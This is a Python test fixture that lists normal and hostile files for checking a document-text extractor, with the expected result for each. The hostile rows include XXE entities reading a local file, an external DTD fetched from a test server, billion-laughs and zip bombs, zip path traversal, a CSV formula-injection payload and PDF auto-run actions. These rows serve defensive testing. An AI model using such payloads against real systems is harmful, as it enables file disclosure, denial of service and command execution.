"""The corpus: files as people have them and as attackers make them, each with what must come of it.

A row is made at test time from nothing but this folder, the same on every machine. `says` are pairs of a
locator and words that stand there; `notes` are the codes of problems that must be told (exactly these);
`refused` is the code of a file that isn't read.
"""

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.documents.made import hostile, packages, pdfs, texts
from tests.documents.made.pdfs import Page, lines, pdf, table

Make = Callable[["World"], bytes]


@dataclass(frozen=True)
class World:
    """What hostile files point at. address: of a server that must never be asked; canary: a file's path."""

    address: str
    canary: str


@dataclass(frozen=True)
class Row:
    name: str
    make: Make
    kind: str | None = None
    says: tuple[tuple[str, str], ...] = ()
    notes: frozenset[str] = frozenset()
    refused: str | None = None
    columns: tuple[str, dict[str, str]] | None = None
    silent: tuple[str, ...] = ()  # words that must stand nowhere


def reads(
    name: str,
    make: Make | bytes,
    kind: str,
    *says: tuple[str, str],
    notes: str = "",
    silent: tuple[str, ...] = (),
    columns: tuple[str, dict[str, str]] | None = None,
) -> Row:
    return Row(name, _maker(make), kind, says, frozenset(notes.split()), None, columns, silent)


def refuses(name: str, make: Make | bytes, code: str) -> Row:
    return Row(name, _maker(make), refused=code)


def _maker(make: Make | bytes) -> Make:
    return make if callable(make) else lambda _: make


def png() -> bytes:
    def part(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = zlib.compress(b"\x00\xff\xff\xff" * 4)
    return (
        b"\x89PNG\r\n\x1a\n"
        + part(b"IHDR", struct.pack(">IIBBBBB", 1, 4, 8, 2, 0, 0, 0))
        + part(b"IDAT", rows)
        + part(b"IEND", b"")
    )


FIRST = ("名称", "开工会")
TEXTS = (
    *(
        reads(
            f"表-{encoding}.csv",
            texts.ledger(encoding),
            "csv",
            ("line1", "日期 | 金额 | 备注"),
            ("line2", "128.50"),
            columns=("line3", {"日期": "2026-03-02", "金额": "42", "备注": "午餐, 两人\n含饮料"}),
            silent=("\ufffd", "\ufeff"),
        )
        for encoding in ("gb18030", "utf-8", "utf-8-sig", "utf-16", "utf-16-be-marked", "utf-32", "utf-16-le")
    ),
    refuses("坏-gb18030.csv", texts.broken("gb18030"), "broken_encoding"),
    refuses("坏-utf8.csv", texts.broken("utf-8"), "broken_encoding"),
    refuses("坏-utf16.csv", texts.broken("utf-16"), "broken_encoding"),
    *(
        reads(name, said.encode(encoding), "text", ("line1", said), notes="encoding_guessed")
        for name, encoding, said in texts.OTHERS
    ),
    reads(
        "kunden.csv",
        "Name;Straße;Preis\r\nMüller;Hauptstraße 5;12,50 €\r\n".encode("cp1252"),
        "csv",
        columns=("line2", {"Name": "Müller", "Straße": "Hauptstraße 5", "Preis": "12,50 €"}),
        notes="encoding_guessed",
    ),
    reads(
        "名簿.csv",
        "名前,場所\r\nランプ,東京\r\n".encode("cp932"),
        "csv",
        ("line2", "ランプ | 東京"),
        notes="encoding_guessed",
    ),
    refuses("polski.csv", "Imię,Miasto\nŁukasz Żak,Łódź\n".encode("cp1250"), "unknown_encoding"),
    refuses("russkij.txt", "Завтра в девять совещание.".encode("cp1251"), "unknown_encoding"),
    reads(
        "生僻字.txt",
        "龘靐齉爩𠮷野家与㐂先生在北京开会，时间是三月五日，请准时参加。".encode("gb18030"),
        "text",
        ("line1", "𠮷野家"),
    ),
    reads(
        "semicolon.csv",
        b"name;place;amount\nkickoff;Berlin;1,5\nreview;Paris;2,5\n",
        "csv",
        columns=("line2", {"name": "kickoff", "place": "Berlin", "amount": "1,5"}),
    ),
    reads(
        "tab.tsv",
        "名称\t地点\n开工会\t上海\n".encode(),
        "csv",
        columns=("line2", {"名称": "开工会", "地点": "上海"}),
    ),
    reads(
        "pipes.txt",
        "名称|地点|时间\n开工会|上海|3月\n复盘会|北京|4月\n".encode(),
        "csv",
        columns=("line3", {"名称": "复盘会", "地点": "北京", "时间": "4月"}),
    ),
    reads(
        "标题在上.csv",
        "2026 年活动,,\n制表：张三,,\n名称,时间,地点\n开工会,3月5日,上海\n".encode(),
        "csv",
        ("line1", "2026 年活动"),
        columns=("line4", {"名称": "开工会", "时间": "3月5日", "地点": "上海"}),
    ),
    reads(
        "quotes.csv",
        b'name,place\n"kick"off,Berlin\nreview,"Paris\n',
        "csv",
        ("line3", "Paris"),
        notes="quotes_broken",
    ),
    reads(
        "uneven.csv", b"name,place,city\na,b,c\nd,e,f,g\nh,i,j\n", "csv", ("line3", "g"), notes="row_uneven"
    ),
    reads(
        "twice.csv",
        "名称,名称,地点\n甲,乙,丙\n丁,戊,己\n".encode(),
        "csv",
        columns=("line2", {"名称": "甲", "名称 (2)": "乙", "地点": "丙"}),
    ),
    reads(
        "formula.csv",
        b"name,amount\n=cmd|' /C calc'!A0,1\n@SUM(1),2\n",
        "csv",
        ("line2", "=cmd|' /C calc'!A0"),
    ),
    reads(
        "lost.txt",
        "已经损坏的\ufffd文字".encode(),
        "text",
        ("line1", "已经损坏的"),
        notes="replacement_character",
    ),
    reads("long.txt", ("很长的一行。" * 5000).encode(), "text", ("line1", "很长的一行。"), notes="truncated"),
    reads(
        "labels.txt",
        "会议通知\n\n时间：3月5日 14:00\n地点：上海\n1. 准备材料\n2、带电脑\n".encode(),
        "text",
        ("line3", "时间：3月5日 14:00"),
        ("line4", "地点：上海"),
        ("line5", "准备材料"),
        ("line6", "带电脑"),
    ),
    reads(
        "prose.txt",
        b"The committee met\nin Berlin.\n\nIt will meet again.\n",
        "text",
        ("line1", "The committee met\nin Berlin."),
        ("line4", "It will meet again."),
    ),
    reads(
        "计划.md",
        texts.MARKDOWN,
        "markdown",
        ("line1", "计划"),
        ("line5", "第一项"),
        columns=("line11", {"名称": "开工会", "地点": "上海"}),
        silent=("**",),
    ),
    reads(
        "readme",
        b"# Title\n\n- one\n- two\n\n## Next\n",
        "markdown",
        ("line1", "Title"),
        ("line4", "two"),
    ),
    refuses("empty.txt", b"", "empty"),
    refuses("zeros.txt", b"abc\x00\x01\x02def" * 10, "unsupported_kind"),
    reads("blank.txt", b"\n \n\n", "text", notes="no_text"),
)
WORD = (
    reads(
        "计划.docx",
        lambda _: packages.plain_docx(),
        "docx",
        ("¶1", "年度计划"),
        ("¶3", "第一项"),
        ("¶5:r1", "名称 | 时间"),
        ("¶6", "The end."),
        columns=("¶5:r2", {"名称": "开工会", "时间": "2026-03-05", "地点": "上海", "金额": "1200"}),
    ),
    reads(
        "merged.docx",
        lambda _: packages.merged_docx(),
        "docx",
        notes="merged_cells",
        columns=("¶1:r3", {"部门": "市场部", "名称": "广告", "金额": "200"}),
    ),
    reads(
        "nested.docx",
        lambda _: packages.nested_docx(),
        "docx",
        ("¶1:r2:t1:r2", "内会"),
        columns=("¶1:r2:t1:r2", {"名称": "内会", "地点": "广州"}),
    ),
    reads(
        "tracked.docx",
        lambda _: packages.tracked_docx(),
        "docx",
        ("¶1", "合同总价为三百万元"),
        notes="changes_pending",
        silent=("二百万元",),
    ),
    reads(
        "hidden.docx",
        lambda _: packages.hidden_docx(),
        "docx",
        ("¶1", "看得见的话。"),
        notes="hidden_text",
        silent=("evil@example.test",),
    ),
    reads("boxed.docx", lambda _: packages.boxed_docx(), "docx", ("¶1", "正文"), ("¶2", "框里的字")),
    reads(
        "form.docx",
        lambda _: packages.controlled_docx(),
        "docx",
        ("¶1", "姓名：张三"),
        ("¶2", "控件里的整段"),
    ),
    reads(
        "beside.docx",
        lambda _: packages.beside_docx(),
        "docx",
        ("¶1", "销量翻倍。"),
        ("header1", "机密"),
        ("header2", "年度报告 2026"),
        ("footer1", "联系人：王芳"),
        ("comment1", "[李雷] 请核对数字"),
    ),
    reads("notes.docx", lambda _: packages.footnoted_docx(), "docx", ("footnote1", "数据截至三月。")),
    reads(
        "macros.docm",
        lambda _: packages.docm(),
        "docx",
        ("¶1", "年度计划"),
        notes="macros_ignored",
        silent=("AutoOpen",),
    ),
    reads("template.dotx", lambda _: packages.dotx(), "docx", ("¶1", "年度计划")),
    reads(
        "remote.docx",
        lambda w: packages.remote_docx(w.address),
        "docx",
        ("¶1", "正文在此。"),
        notes="external_ignored",
    ),
    refuses(
        "entity.docx",
        lambda w: packages.entity(
            packages.saved(packages.document("XX")),
            "word/document.xml",
            f'<!ENTITY e SYSTEM "file://{w.canary}">',
            "&e;",
            b"XX",
        ),
        "xml_forbidden",
    ),
    refuses(
        "laughs.docx",
        lambda _: packages.entity(
            packages.saved(packages.document("XX")), "word/document.xml", packages.LAUGHS, "&k;", b"XX"
        ),
        "xml_forbidden",
    ),
    refuses(
        "dtd.docx",
        lambda w: packages.entity(
            packages.saved(packages.document("XX")),
            "word/document.xml",
            f'<!ENTITY % p SYSTEM "{w.address}/x.dtd"> %p;',
            "XX",
            b"XX",
        ),
        "xml_forbidden",
    ),
    refuses("locked.docx", hostile.locked_office(), "password_protected"),
    refuses("old.doc", hostile.legacy_office(), "legacy_format"),
    refuses("half.docx", lambda _: packages.plain_docx()[:9000], "corrupt"),
    refuses(
        "noxml.docx",
        lambda _: packages.changed(packages.plain_docx(), {"word/document.xml": b"<w:document"}),
        "corrupt",
    ),
    refuses(
        "nobody.docx", lambda _: packages.changed(packages.plain_docx(), {"_rels/.rels": None}), "corrupt"
    ),
    refuses(
        "strict.docx",
        lambda _: packages.changed(
            packages.plain_docx(),
            {
                "_rels/.rels": lambda old: old.replace(
                    b"http://schemas.openxmlformats.org/officeDocument/2006",
                    b"http://purl.oclc.org/ooxml/officeDocument",
                )
            },
        ),
        "strict_format",
    ),
    refuses(
        "absolute.docx",
        lambda _: packages.changed(packages.plain_docx(), more={"/etc/passwd": b"x"}),
        "zip_unsafe",
    ),
    refuses(
        "dots.docx",
        lambda _: packages.changed(packages.plain_docx(), more={"word/../../x": b"x"}),
        "zip_unsafe",
    ),
    refuses(
        "backslash.docx",
        lambda _: packages.changed(packages.plain_docx(), more={"..\\x": b"x"}),
        "zip_unsafe",
    ),
    refuses(
        "twice.docx", lambda _: hostile.doubled(packages.plain_docx(), "word/document.xml"), "zip_unsafe"
    ),
    refuses("lies.docx", lambda _: hostile.lying_size(packages.plain_docx(), "word/document.xml"), "corrupt"),
    refuses("cipher.docx", lambda _: hostile.encrypted_members(packages.plain_docx()), "password_protected"),
)
EXCEL = (
    reads(
        "值.xlsx",
        lambda _: packages.valued_xlsx(),
        "xlsx",
        ("三月!1", "日期 | 时间"),
        ("三月!3", "0.3"),
        notes="formula_without_value",
        columns=(
            "三月!2",
            {"日期": "2026-03-05", "时间": "09:30", "比例": "35%", "金额": "1234.5", "合计": "=D2*2"},
        ),
    ),
    reads(
        "merged.xlsx",
        lambda _: packages.merged_xlsx(),
        "xlsx",
        ("Sheet1!A1", "2026 年费用"),
        notes="merged_cells",
        columns=("Sheet1!5", {"部门": "市场部", "费用/交通": "50", "费用/住宿": "60", "负责人": "李四"}),
    ),
    reads(
        "hidden.xlsx",
        lambda _: packages.hidden_xlsx(),
        "xlsx",
        ("Sheet1!3", "复盘会"),
        ("底稿!A1", "秘密"),
        notes="hidden_sheet hidden_rows",
    ),
    reads(
        "300.xlsx",
        lambda _: packages.many_rows(),
        "xlsx",
        ("活动清单!301", "活动300"),
        ("活动清单!302", "合计"),
        columns=(
            "活动清单!2",
            {"编号": "1", "名称": "活动1", "时间": "2026-02-02", "地点": "上海", "金额（元）": "10"},
        ),
    ),
    reads(
        "several.xlsx",
        lambda _: packages.several_tables(),
        "xlsx",
        ("Sheet1!2", "甲"),
        columns=("Sheet1!8", {"姓名": "李四", "电话": "13900000000"}),
    ),
    reads(
        "names.xlsx",
        lambda _: packages.saved(packages.sheet(packages.EVENTS, "Q1 'raw' data")),
        "xlsx",
        ("'Q1 ''raw'' data'!2", "开工会"),
    ),
    reads(
        "macros.xlsm",
        lambda _: packages.xlsm(),
        "xlsx",
        ("Sheet1!2", "开工会"),
        notes="macros_ignored",
        silent=("Auto_Open",),
    ),
    reads(
        "links.xlsx",
        lambda w: packages.linked_xlsx(w.address),
        "xlsx",
        ("Sheet1!3", "WEBSERVICE"),
        notes="formula_without_value",
    ),
    reads(
        "excel.xlsx",
        lambda _: packages.shared_strings(),
        "xlsx",
        columns=("数据!2", {"名称": "开工会", "时间": "2026-03-05", "金额": "42"}),
    ),
    reads("lies.xlsx", lambda _: packages.lying_dimension(), "xlsx", ("Sheet1!3", "复盘会")),
    refuses("bomb.xlsx", lambda _: packages.inflated(117), "zip_bomb"),
    refuses("ratio.xlsx", lambda _: packages.inflated(40), "zip_bomb"),
    refuses(
        "laughs.xlsx",
        lambda _: packages.entity(
            packages.saved(packages.sheet([("XX",)])),
            "xl/worksheets/sheet1.xml",
            packages.LAUGHS,
            "&k;",
            b"XX",
        ),
        "xml_forbidden",
    ),
    refuses(
        "entity.xlsx",
        lambda w: packages.entity(
            packages.saved(packages.sheet([("XX",)])),
            "xl/worksheets/sheet1.xml",
            f'<!ENTITY e SYSTEM "file://{w.canary}">',
            "&e;",
            b"XX",
        ),
        "xml_forbidden",
    ),
    refuses(
        "members.xlsx",
        lambda _: packages.changed(
            packages.saved(packages.sheet([("a",)])), more={f"x/{n}": b"" for n in range(2100)}
        ),
        "zip_bomb",
    ),
    refuses(
        "binary.xlsb",
        lambda _: hostile.package({"xl/workbook.bin": b"\x83", "[Content_Types].xml": b"<Types/>"}),
        "unsupported_kind",
    ),
    refuses("web.xls", b"<html><table><tr><td>1</td></tr></table></html>", "unsupported_kind"),
    refuses(
        "nosheet.xlsx",
        lambda _: packages.changed(
            packages.saved(packages.sheet([("a",)])), {"xl/worksheets/sheet1.xml": b"<nonsense"}
        ),
        "corrupt",
    ),
)
SLIDES = (
    reads(
        "汇报.pptx",
        lambda _: packages.saved(packages.deck()),
        "pptx",
        ("slide1:1", "季度汇报"),
        ("slide1:2", "收入增长 20%"),
        ("slide1:3", "成本下降"),
        ("slide1:note", "先讲收入。"),
    ),
    reads(
        "tables.pptx",
        lambda _: packages.tabled_pptx(),
        "pptx",
        ("slide2:2:r1", "名称"),
        columns=("slide2:2:r3", {"名称": "复盘会", "时间": "2026-04-01", "地点": "北京", "金额": "800.50"}),
    ),
    reads(
        "merged.pptx",
        lambda _: packages.merged_pptx(),
        "pptx",
        notes="merged_cells",
        columns=("slide2:2:r3", {"部门": "市场部", "名称": "广告", "金额": "2"}),
    ),
    reads(
        "chart.pptx",
        lambda _: packages.chart_pptx(),
        "pptx",
        notes="embedded_ignored",
        columns=("slide2:1:r2", {"category": "二月", "收入": "12.5"}),
    ),
    reads("group.pptx", lambda _: packages.grouped_pptx(), "pptx", ("slide1:4", "组里的字")),
    reads(
        "hidden.pptx",
        lambda _: packages.hidden_pptx(),
        "pptx",
        ("slide1:1", "季度汇报"),
        notes="hidden_slide",
    ),
    reads("picture.pptx", lambda _: packages.picture_pptx(png()), "pptx", notes="page_without_text no_text"),
    reads("macros.pptm", lambda _: packages.pptm(), "pptx", ("slide1:1", "季度汇报"), notes="macros_ignored"),
    reads("show.ppsx", lambda _: packages.ppsx(), "pptx", ("slide1:1", "季度汇报")),
    reads(
        "remote.pptx",
        lambda w: packages.remote_pptx(w.address),
        "pptx",
        ("slide1:1", "季度汇报"),
        notes="external_ignored",
    ),
    refuses(
        "laughs.pptx",
        lambda _: packages.entity(
            packages.saved(packages.deck()),
            "ppt/slides/slide1.xml",
            packages.LAUGHS,
            "&k;",
            "季度汇报".encode(),
        ),
        "xml_forbidden",
    ),
    refuses("half.pptx", lambda _: packages.saved(packages.deck())[:-2000], "corrupt"),
)
ROWS4 = (
    ("名称", "时间", "地点", "金额"),
    ("开工会", "2026-03-05", "上海", "1200"),
    ("复盘会", "2026-04-01", "", "800"),
    ("总结会", "2026-05-01", "北京", "90"),
)
PDF = (
    reads(
        "通知.pdf",
        lambda _: pdf(Page(lines("会议通知", size=20) + lines("时间：2026年3月5日", "地点：上海", y=700))),
        "pdf",
        ("p1:¶1", "会议通知"),
        ("p1:¶2", "时间：2026年3月5日"),
        ("p1:¶3", "地点：上海"),
    ),
    reads(
        "prose.pdf",
        lambda _: pdf(
            Page(lines("The committee met and", "agreed on all points.", "", "It meets again in May."))
        ),
        "pdf",
        ("p1:¶1", "The committee met and agreed on all points."),
        ("p1:¶2", "It meets again in May."),
    ),
    reads(
        "table.pdf",
        lambda _: pdf(Page(lines("活动清单", y=760) + table(ROWS4))),
        "pdf",
        ("p1:¶1", "活动清单"),
        columns=("p1:¶4", {"名称": "复盘会", "时间": "2026-04-01", "金额": "800"}),
    ),
    reads(
        "wrapped.pdf",
        lambda _: pdf(Page(hostile.wrapped_table())),
        "pdf",
        columns=("p1:¶2", {"名称": "很长的名称换了行", "时间": "2026-03-05", "地点": "上海"}),
    ),
    reads(
        "landscape.pdf",
        lambda _: pdf(Page((pdfs.Text(300, 100, "横向的页", 12, True),), rotate=90)),
        "pdf",
        ("p1:¶1", "横向的页"),
        notes="page_rotated",
    ),
    reads(
        "upside.pdf",
        lambda _: pdf(Page(lines("倒过来的页"), rotate=180)),
        "pdf",
        ("p1:¶1", "倒过来的页"),
        notes="page_rotated text_rotated",
    ),
    reads(
        "turned.pdf",
        lambda _: pdf(Page((*lines("正文一行"), pdfs.Text(40, 300, "旁边竖写", 10, True)))),
        "pdf",
        ("p1:¶1", "正文一行"),
        ("p1:¶2", "旁边竖写"),
        notes="text_rotated",
    ),
    reads("scan.pdf", lambda _: pdf(Page(picture=True)), "pdf", notes="page_without_text no_text"),
    reads(
        "mixed.pdf",
        lambda _: pdf(Page(lines("第一页有字")), Page(picture=True), Page(lines("第三页也有"))),
        "pdf",
        ("p1:¶1", "第一页有字"),
        ("p3:¶1", "第三页也有"),
        notes="page_without_text",
    ),
    refuses("locked.pdf", lambda _: pdfs.locked(pdf(Page(lines("秘密"))), "s3cret"), "password_protected"),
    reads("noprint.pdf", lambda _: pdfs.locked(pdf(Page(lines("可以看"))), ""), "pdf", ("p1:¶1", "可以看")),
    refuses("half.pdf", lambda _: pdf(Page(lines("半个")))[:300], "corrupt"),
    reads(
        "noxref.pdf",
        lambda _: pdf(Page(lines("没有索引"))).replace(b"startxref\n", b"startxref\n9"),
        "pdf",
        ("p1:¶1", "没有索引"),
    ),
    reads(
        "junk.pdf",
        lambda _: b"\r\n\r\nHTTP junk\r\n" + pdf(Page(lines("前面有杂物"))),
        "pdf",
        ("p1:¶1", "前面有杂物"),
    ),
    reads(
        "bomb.pdf",
        lambda _: pdf(Page(raw=b" " * 200_000_000), Page(lines("第二页"))),
        "pdf",
        ("p2:¶1", "第二页"),
        notes="page_unreadable",
    ),
    reads(
        "unmapped.pdf",
        lambda _: pdf(Page(lines("看不懂的码")), mapped=False),
        "pdf",
        notes="characters_unmapped no_text",
    ),
    reads(
        "script.pdf",
        lambda _: pdf(Page(lines("有脚本")), root=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "pdf",
        ("p1:¶1", "有脚本"),
        notes="scripts_ignored",
    ),
    reads(
        "launch.pdf",
        lambda w: pdf(
            Page(lines("会启动")), root=f"/OpenAction << /S /URI /URI ({w.address}/hit) >>".encode()
        ),
        "pdf",
        ("p1:¶1", "会启动"),
        notes="scripts_ignored",
    ),
    reads(
        "attached.pdf",
        lambda _: pdfs.with_attachment(pdf(Page(lines("有附件")))),
        "pdf",
        ("p1:¶1", "有附件"),
        notes="embedded_ignored",
        silent=("CANARY",),
    ),
    reads("external.pdf", lambda w: hostile.external_stream(w.canary), "pdf", notes="no_text"),
    reads("form.pdf", lambda _: pdfs.form("姓名", "李雷"), "pdf", ("p1:¶2", "姓名: 李雷")),
    refuses("loop.pdf", lambda _: hostile.page_loop(), "corrupt"),
    refuses("deep.pdf", lambda _: hostile.deep_arrays(), "corrupt"),
    reads(
        "30.pdf",
        lambda _: hostile.thirty_pages(),
        "pdf",
        ("p30:¶2", "名称：活动30"),
        ("p17:¶4", "地点：北京"),
    ),
    refuses("huge.pdf", lambda _: b"%PDF-1.7\n" + b"0" * 100_000_000, "too_large"),
)
OTHERS = (
    refuses("photo.pdf", png(), "unsupported_kind"),
    refuses("letter.doc", b"{\\rtf1 hello}", "unsupported_kind"),
    refuses(
        "paper.odt",
        lambda _: hostile.package(
            {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}
        ),
        "unsupported_kind",
    ),
    refuses("files.zip", lambda _: hostile.package({"a.txt": b"a"}), "unsupported_kind"),
    refuses("feed.xml", b"<?xml version='1.0'?><a/>", "unsupported_kind"),
    refuses("program.docx", b"MZ\x90\x00\x03\x00" + b"\x00" * 100, "unsupported_kind"),
    reads(
        "really.docx",
        "名称,地点,时间\n甲,北京,3月\n乙,上海,4月\n".encode(),
        "csv",
        ("line2", "甲"),
        notes="name_differs",
    ),
    reads("really.txt", lambda _: packages.plain_docx(), "docx", ("¶1", "年度计划"), notes="name_differs"),
)
CORPUS = TEXTS + WORD + EXCEL + SLIDES + PDF + OTHERS
